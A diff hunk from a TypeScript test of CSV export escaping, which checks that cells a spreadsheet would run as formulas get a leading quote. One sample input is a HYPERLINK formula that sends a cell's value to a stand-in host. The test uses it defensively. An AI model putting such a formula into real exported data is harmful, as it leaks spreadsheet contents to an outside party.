@@ -36,7 +36,7 @@ describe('a CSV cell a spreadsheet would run as a formula', () => {
   const FORMULA = /^[=+\-@\t\r]/;
   const PLAIN_NUMBER = /^-?(0|[1-9]\d*)(\.\d+)?([eE][+-]?\d+)?$/;
   /** The cell as a spreadsheet reads it: the field unquoted. */
-  const read = (field: string) => (parseCsv(field + '\r\n', { relax_quotes: true }) as string[][])[0]![0]!;
+  const read = (field: string) => parseCsv(field + '\r\n', { relax_quotes: true })[0]![0]!;
 
   it("is written with a ' in front: =, +, -, @, tab and carriage return", () => {
     expect(csvCell('=HYPERLINK("http://x.test/?"&A1,"Refund")')).toBe(`"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")"`);
